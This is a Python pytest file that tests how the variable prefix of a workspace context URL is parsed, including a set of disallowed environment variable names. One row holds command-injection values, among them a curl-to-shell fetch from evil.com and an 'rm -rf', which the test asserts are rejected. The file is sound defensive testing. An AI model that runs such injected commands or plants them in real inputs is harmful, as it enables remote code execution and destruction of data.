"""U: what stands before the address of a link."""

from collections.abc import Callable

import pytest

from app.faults import Malformed
from app.workspaces.contexturl import snapshot_of, split, variables_of, variables_prefix
from app.workspaces.repository import parse

REPOSITORY = "https://github.com/gitpod-io/gitpod-test-repo"


def refused(link: str) -> bool:
    try:
        parse(link, "", {"https"}, [])
    except Malformed:
        return True
    return False


ROWS: dict[str, Callable[[], bool]] = {
    "U1": lambda: variables_prefix("foo=bar/http...") == "foo=bar/",
    "U3": lambda: (
        variables_prefix("foo==bar,,foo2=bar2/http...") == "foo==bar,,foo2=bar2/"
        and variables_of("foo==bar,,foo2=bar2/") == {"foo2": "bar2"}
    ),
    "U5": lambda: (
        variables_of("foo1=bar1,foo2=bar2,foo3=bar3/")
        == {"foo1": "bar1", "foo2": "bar2", "foo3": "bar3"}
    ),
    "U7": lambda: variables_of("foo1=/") == variables_of("=bar/") == {},
    "U9": lambda: variables_of("fo% 1=bar1,foo2=bar2/") == {"foo2": "bar2"},
    "U11": lambda: (
        not any(
            variables_of(f"{name}=value/")
            for name in (
                *("CUSTOM_PATH", "APP_OPTIONS", "GITPOD_SECRET", "NODE_ENV"),
                *("GIT_CONFIG", "JAVA_OPTS", "APP_HOME", "APP_CONFIG"),
            )
        )
    ),
    "U13": lambda: variables_of("VAR=value%2D/") == {"VAR": "value-"},
    "U15": lambda: (
        variables_of("VALID=good,BASH_ENV=bad,ANOTHER=also-good/")
        == {"VALID": "good", "ANOTHER": "also-good"}
    ),
    "U17": lambda: (
        not any(
            variables_of(prefix)
            for prefix in (
                "BASH_ENV=$(curl$IFS@evil.com|sh)/",
                "CUSTOM=$(whoami)/",
                "EVIL=value|rm -rf/",
                "BAD=test;curl evil.com/",
            )
        )
    ),
    "U19": lambda: (
        split("passedin=test%20value/github.com/gitpod-io/gitpod-test-repo").address
        == "github.com/gitpod-io/gitpod-test-repo"
    ),
    "U21": lambda: refused("[Object object]"),
    "U23": lambda: (
        split(f"imagebuild/{REPOSITORY}").build_image
        and split(f"imagebuild/{REPOSITORY}").address == REPOSITORY
        and snapshot_of("#snapshot/7f5b6c5e") == "7f5b6c5e"
        and refused(f"open-prebuild/7f5b6c5e-0000-4000-8000-000000000000/{REPOSITORY}")
    ),
}


@pytest.mark.parametrize("row", ROWS)
def test_context_urls(row: str) -> None:
    assert ROWS[row]()
